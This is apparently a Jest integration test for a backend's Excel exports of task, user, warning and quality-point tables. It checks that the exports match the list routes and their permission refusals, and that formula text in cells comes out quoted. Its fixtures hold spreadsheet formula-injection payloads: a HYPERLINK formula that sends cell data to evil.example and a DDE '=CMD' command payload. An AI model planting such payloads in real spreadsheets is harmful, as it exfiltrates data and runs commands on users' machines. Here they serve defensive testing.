import { jest } from '@jest/globals';
import type { TargetTask, UserRecord } from '@zhengai/contracts';
import ExcelJS from 'exceljs';
import type { DataSource } from 'typeorm';
import { cellText } from '../../backend/src/infrastructure/excel/first-sheet.exceljs.js';
import { TASK_EXPORT_HEADER, taskExportRow } from '../../backend/src/modules/target-tasks/domain/task-export.js';
import { binary, type Client } from './support/files-fixtures.js';
import { client, seed } from './support/session.js';
import { startTestApp, type TestApp } from './support/test-app.js';

// Issue 35, the lists' 导出Excel: each export holds exactly the rows its list route answers the same person under the
// same filters (every page: more tasks than one export read of 500), text that would start a formula comes out quoted
// (a text cell, no formula), and a person without the list's right gets the list's own refusal.
jest.setTimeout(180_000);

const API = '/api/herm-znfx';
const YT = 'lxe-yt';
/** More than one export read (EXPORT_PAGE_SIZE, 500): the export must go past its first page. */
const MANY = 520;
const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点我")';
/** A library and an object task of 信息工程学院 owned by 陈静 (rwfzr), for the warning table. */
const LIB = 'lxe-lib';
const OBJ_TASK = 'lxe-obj-task';
const NO_PERMISSION = { meta: { success: false, message: '用户无权访问该资源' }, data: null };

interface Sheet {
  header: string[];
  /** cells as an import reads them (the formula quote taken off) */
  rows: string[][];
  raw: ExcelJS.Worksheet;
}

async function readSheet(body: Buffer): Promise<Sheet> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(body as unknown as ArrayBuffer);
  const ws = book.worksheets[0]!;
  const width = ws.getRow(1).cellCount;
  const cells = (n: number) => Array.from({ length: width }, (_, i) => cellText(ws.getRow(n).getCell(i + 1)));
  return { header: cells(1), rows: Array.from({ length: ws.rowCount - 1 }, (_, i) => cells(i + 2)), raw: ws };
}

describe('lists to Excel (issue 35)', () => {
  let t: TestApp;
  let db: DataSource;
  let admin: Client;
  let owner: Client; // rwfzr, u-owner (陈静): sees only the tasks they have a part in
  let expert: Client; // zj: no 年度目标任务 menu, no 用户管理 menu
  let publisher: Client; // fabu: tasks, but no 用户管理 menu
  let otherHead: Client; // bmfzr, head of 教务处: does not read 信息工程学院's diagnosis task
  const as = async (account: string, password = 'Demo2026'): Promise<Client> => {
    const c = client(t);
    expect((await c.login(account, password)).status).toBe(200);
    return c;
  };
  const list = async (c: Client, query: Record<string, string>): Promise<TargetTask[]> => {
    const res = await c.get(`${API}/targetTask/list?${new URLSearchParams({ ...query, pageSize: '0' })}`);
    expect(res.body.meta).toMatchObject({ success: true });
    return res.body.data.records as TargetTask[];
  };
  const exported = async (c: Client, path: string, query: Record<string, string>) => {
    const res = await binary(c.get(`${path}?${new URLSearchParams(query)}`));
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    return { res, sheet: await readSheet(res.body as Buffer) };
  };

  beforeAll(async () => {
    t = await startTestApp();
    db = await seed(t);
    [admin, owner, expert, publisher, otherHead] = await Promise.all([as('admin', 'Admin2026'), as('rwfzr'), as('zj'), as('fabu'), as('bmfzr')]);
    await db.query(`INSERT INTO year_target (id, name, cycle_year, creator_id) VALUES ($1, 'LXE导出年度目标', '2033', 'u-publisher')`, [YT]);
    // MANY tasks of 教务处, every third one owned by 陈静 (u-owner), the rest by 李红; one named as a formula
    await db.query(
      `INSERT INTO target_task (year_target_id, rwmc, rwlx, rwnf, kssj, jssj, charge_department_id, owner_id, creator_id, publish_department_id)
       SELECT $1, CASE WHEN n = 7 THEN $3 ELSE 'LXE任务' || lpad(n::text, 4, '0') || CASE WHEN n % 2 = 0 THEN '双' ELSE '单' END END,
              'A', '2033', DATE '2033-01-01' + (n % 200), DATE '2033-12-31', 'd-jwc', CASE WHEN n % 3 = 1 THEN 'u-owner' ELSE 'u-depthead' END,
              'u-publisher', (SELECT org_id FROM app_user WHERE id = 'u-publisher')
       FROM generate_series(1, $2::int) n`,
      [YT, MANY, FORMULA],
    );
  });
  afterAll(async () => {
    if (db) {
      await db.query(`DELETE FROM target_task WHERE year_target_id = $1`, [YT]);
      await db.query(`DELETE FROM year_target WHERE id = $1`, [YT]);
      // with its tasks, points, results and warnings
      await db.query(`DELETE FROM target_library WHERE id = $1`, [LIB]);
    }
    await t?.close();
  });

  it('exports the target tasks a person\'s list shows under the same page type and filters, every page, in its order', async () => {
    const query = { pageType: 'YEAR_TASK', yearTargetId: YT, sort: 'asc' };
    const all = await list(admin, query);
    expect(all).toHaveLength(MANY);
    const { res, sheet } = await exported(admin, `${API}/targetTask/export`, query);
    expect(res.headers['content-disposition']).toContain(`filename*=UTF-8''${encodeURIComponent('全部任务.xlsx')}`);
    expect(sheet.header).toEqual(TASK_EXPORT_HEADER);
    expect(sheet.rows).toEqual(all.map(taskExportRow));
    expect(sheet.rows[0]![TASK_EXPORT_HEADER.indexOf('责任部门')]).toBe('教务处');

    // 陈静 sees a third of them, on the same page type under the same filters
    const hers = await list(owner, query);
    expect(hers.length).toBe(Math.ceil(MANY / 3));
    expect((await exported(owner, `${API}/targetTask/export`, query)).sheet.rows).toEqual(hers.map(taskExportRow));

    // the list's other filters and page types: a name filter on 我的任务
    const mine = { pageType: 'MY_TASK', yearTargetId: YT, name: '双' };
    const mineListed = await list(owner, mine);
    expect(mineListed.length).toBeGreaterThan(0);
    expect(mineListed.length).toBeLessThan(hers.length);
    const mineExported = await exported(owner, `${API}/targetTask/export`, mine);
    expect(mineExported.res.headers['content-disposition']).toContain(encodeURIComponent('我的任务.xlsx'));
    expect(mineExported.sheet.rows).toEqual(mineListed.map(taskExportRow));
  });

  it('writes a task name that would start a formula as quoted text, not a formula', async () => {
    const { sheet } = await exported(admin, `${API}/targetTask/export`, { pageType: 'YEAR_TASK', yearTargetId: YT, name: 'HYPERLINK' });
    expect(sheet.rows).toHaveLength(1);
    const cell = sheet.raw.getRow(2).getCell(1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(`'${FORMULA}`);
    expect(cell.formula).toBeUndefined();
  });

  it("answers a person without the task lists' menu the list's own refusal", async () => {
    const query = new URLSearchParams({ pageType: 'YEAR_TASK', yearTargetId: YT });
    const refusedList = await expert.get(`${API}/targetTask/list?${query}`);
    const refusedExport = await expert.get(`${API}/targetTask/export?${query}`);
    expect(refusedList.body).toMatchObject(NO_PERMISSION);
    expect(refusedExport.status).toBe(refusedList.status);
    expect(refusedExport.headers['content-type']).toContain('json');
    expect(refusedExport.body).toEqual(refusedList.body);
    // the filters are read as the list reads them
    const bad = await admin.get(`${API}/targetTask/export?pageType=NONE`);
    expect(bad.status).toBe(400);
    expect(bad.body.meta).toEqual({ success: false, message: '页面类型不正确' });
  });

  it("exports 用户管理's people: users/common's rows under the same filters, formula text quoted, for its menu only", async () => {
    const added = await admin.post('/api/user/users/add', { account: 'lxe-formula', userName: '=1+1', orgId: 'd-jwc', sex: 2, personKind: 'staff' });
    expect(added.body.meta).toMatchObject({ success: true });
    const people = async (query: Record<string, string>): Promise<UserRecord[]> => {
      const res = await admin.get(`/api/user/users/common?${new URLSearchParams({ ...query, pageSize: '0' })}`);
      expect(res.body.meta).toMatchObject({ success: true });
      return res.body.data.records as UserRecord[];
    };
    const asRows = (records: UserRecord[]) => records.map((u) => [u.account, u.userName, u.orgName ?? '', u.roles.map((r) => r.roleName).join('、')]);
    const pick = (rows: string[][]) => rows.map((r) => [r[0]!, r[1]!, r[2]!, r[7]!]);

    const everyone = await people({});
    const whole = await exported(admin, '/api/user/users/export', {});
    expect(whole.res.headers['content-disposition']).toContain(encodeURIComponent('用户列表.xlsx'));
    expect(whole.sheet.header).toEqual(['账号', '姓名', '部门', '人员类型', '用户类型', '性别', '状态', '角色']);
    expect(pick(whole.sheet.rows)).toEqual(asRows(everyone));

    const filter = { orgId: 'd-jwc', personKind: 'staff' };
    const some = await people(filter);
    expect(some.length).toBeLessThan(everyone.length);
    const part = await exported(admin, '/api/user/users/export', filter);
    expect(pick(part.sheet.rows)).toEqual(asRows(some));
    const formulaRow = part.sheet.rows.findIndex((r) => r[0] === 'lxe-formula');
    const person = part.sheet.rows[formulaRow]!;
    expect([person[3], person[5], person[6]]).toEqual(['教职工', '女', '启用']);
    const cell = part.sheet.raw.getRow(formulaRow + 2).getCell(2);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe("'=1+1");

    // the publisher lists people (the picker) but holds no 用户管理: refused, as every route of that menu refuses
    expect((await publisher.get('/api/user/users/common?pageSize=1')).body.meta.success).toBe(true);
    const refused = await publisher.get('/api/user/users/export');
    expect(refused.headers['content-type']).toContain('json');
    expect(refused.body).toMatchObject(NO_PERMISSION);
    expect((await admin.post('/api/user/users/delete', { userId: added.body.data.userId })).body.meta.success).toBe(true);
  });

  it("exports 监测预警's warning table of a task: warningflow/list's rows for whoever reads it, values shown, formula text quoted", async () => {
    await db.query(
      `INSERT INTO target_library (id, name, cycle_type_id, cycle_value, target_level_id, dimension_id, tree_level, creator_id)
       VALUES ($1, 'LXE监测库', 'c-year', '2026', 'major', 'dim-zlsc', 3, 'u-publisher')`,
      [LIB],
    );
    await db.query(
      `INSERT INTO obj_task (id, library_id, rwmc, object_type, object_code, object_name, cycle_value, department_id, owner_id, auditor_id)
       VALUES ($1, $2, 'LXE监测任务', 'major', 'lxe-major', 'LXE专业', '2026', 'd-xxgc', 'u-owner', NULL)`,
      [OBJ_TASK, LIB],
    );
    // three points with warnings: a percent one open, a float one handled with a formula as its cause, one without any
    const points: Array<[code: string, name: string, zlx: string, warnings: Array<[yjz: string, handledCause: string | null]>]> = [
      ['LXE-1', '就业率', 'percent', [['85', '原因一'], ['85', null]]],
      ['LXE-2', '生师比', 'float', [['18', '=CMD|\' /C calc\'!A0']]],
      ['LXE-3', '无预警点', 'float', []],
    ];
    for (const [i, [code, name, zlx, warnings]] of points.entries()) {
      const pointId = `${LIB}-${code}`;
      await db.query(
        `INSERT INTO quality_point (id, library_id, code, zkdmc, bzz, mbz, zlx, cal_rule, sampling_period, sort_order)
         VALUES ($1, $2, $3, $4, '100', '100', $5, '{"direction":"higher","b":0.9,"c":0.8}', 'month', $6)`,
        [pointId, LIB, code, name, zlx, i],
      );
      const [{ id: resultId }] = (await db.query(`INSERT INTO quality_result (obj_task_id, point_id, jgz) VALUES ($1, $2, '70') RETURNING id`, [OBJ_TASK, pointId])) as Array<{ id: string }>;
      for (const [n, [yjz, cause]] of warnings.entries()) {
        await db.query(
          `INSERT INTO warning_flow (result_id, period_key, yjsj, yjlx, tj, yjz, jgz, zlx, clsj, yyfx, clcs, clrmc)
           VALUES ($1, $2, now() - make_interval(days => $3), 'value', '<', $4, '70', $5, CASE WHEN $6::text IS NULL THEN NULL ELSE now() END, $6, CASE WHEN $6::text IS NULL THEN NULL ELSE '措施' END, CASE WHEN $6::text IS NULL THEN NULL ELSE '陈静' END)`,
          [resultId, `lxe-${n}`, 10 - n, yjz, zlx, cause],
        );
      }
    }
    const listed = async (c: Client) => {
      const res = await c.get(`${API}/warningflow/list?objTaskId=${OBJ_TASK}`);
      expect(res.body.meta).toMatchObject({ success: true });
      return res.body.data as Array<{ zkdmc: string; yjz: string; yyfx: string | null; clcs: string | null; allNum: number; disposeNum: number; clrmc: string | null; open: boolean }>;
    };
    for (const c of [admin, owner]) {
      const rows = await listed(c);
      expect(rows).toHaveLength(2);
      const { res, sheet } = await exported(c, `${API}/warningflow/export`, { objTaskId: OBJ_TASK });
      expect(res.headers['content-disposition']).toContain(encodeURIComponent('预警列表-LXE监测任务.xlsx'));
      expect(sheet.header).toEqual(['质控点名称', '预警值', '原因分析', '处理措施', '预警次数', '已处理次数', '处理人', '处理状态']);
      expect(sheet.rows.map((r) => [r[0], r[2], r[3], r[4], r[5], r[6], r[7]])).toEqual(
        rows.map((r) => [r.zkdmc, r.yyfx ?? '', r.clcs ?? '', String(r.allNum), String(r.disposeNum), r.clrmc ?? '', r.open ? '待处理' : '已处理']),
      );
      // values as the table shows them
      expect(Object.fromEntries(sheet.rows.map((r) => [r[0], r[1]]))).toEqual({ 就业率: '85.00%', 生师比: '18.00' });
    }
    const { sheet } = await exported(admin, `${API}/warningflow/export`, { objTaskId: OBJ_TASK });
    const at = sheet.rows.findIndex((r) => r[0] === '生师比');
    const cell = sheet.raw.getRow(at + 2).getCell(3);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe("'=CMD|' /C calc'!A0");

    // a person who may not read the task gets the list's refusal
    const refusedList = await otherHead.get(`${API}/warningflow/list?objTaskId=${OBJ_TASK}`);
    expect(refusedList.body.meta.success).toBe(false);
    const refusedExport = await otherHead.get(`${API}/warningflow/export?objTaskId=${OBJ_TASK}`);
    expect(refusedExport.status).toBe(refusedList.status);
    expect(refusedExport.headers['content-type']).toContain('json');
    expect(refusedExport.body).toEqual(refusedList.body);
  });
  it("exports 诊断改进's quality-point table of a task: quality/select's rows in its order, values and grades as the screen shows them", async () => {
    // the task and points of the warning table's test above
    await db.query(`UPDATE quality_result SET yyfx = '=SUM(A1)', gjcs = '加强管理', jgdj = 'D' WHERE obj_task_id = $1 AND point_id = $2`, [OBJ_TASK, `${LIB}-LXE-1`]);
    for (const c of [admin, owner]) {
      const table = await c.get(`${API}/quality/select?objTaskId=${OBJ_TASK}`);
      expect(table.body.meta).toMatchObject({ success: true });
      const { levelTitles, rows } = table.body.data as { levelTitles: string[]; rows: Array<{ zkdmc: string; yyfx: string | null; gjcs: string | null }> };
      const { res, sheet } = await exported(c, `${API}/quality/selectExport`, { objTaskId: OBJ_TASK });
      expect(res.headers['content-disposition']).toContain(encodeURIComponent('质控点列表-LXE监测任务.xlsx'));
      expect(sheet.header).toEqual([...levelTitles, '质控点名称', '标准值', '目标值', '本期结果', '本期等级', '上期结果', '上期等级', '原因分析', '改进措施', '附件数']);
      const at = levelTitles.length;
      expect(sheet.rows.map((r) => [r[at], r[at + 7], r[at + 8]])).toEqual(rows.map((r) => [r.zkdmc, r.yyfx ?? '', r.gjcs ?? '']));
      const employment = sheet.rows.find((r) => r[at] === '就业率')!;
      // a percent point: its values with %, its grade by name
      expect(employment[at + 2]).toMatch(/^100(\.00)?%$/);
      expect(employment[at + 3]).toMatch(/^70(\.00)?%$/);
      expect(employment[at + 4]).toBe('未完成');
    }
    const { sheet } = await exported(admin, `${API}/quality/selectExport`, { objTaskId: OBJ_TASK });
    const row = sheet.rows.findIndex((r) => r.includes('就业率'));
    const cause = sheet.raw.getRow(row + 2).getCell(sheet.header.indexOf('原因分析') + 1);
    expect(cause.type).toBe(ExcelJS.ValueType.String);
    expect(cause.value).toBe("'=SUM(A1)");

    // a person who may not read the task gets the table's refusal
    const refusedTable = await otherHead.get(`${API}/quality/select?objTaskId=${OBJ_TASK}`);
    expect(refusedTable.body.meta.success).toBe(false);
    const refusedExport = await otherHead.get(`${API}/quality/selectExport?objTaskId=${OBJ_TASK}`);
    expect(refusedExport.status).toBe(refusedTable.status);
    expect(refusedExport.body).toEqual(refusedTable.body);
  });
});
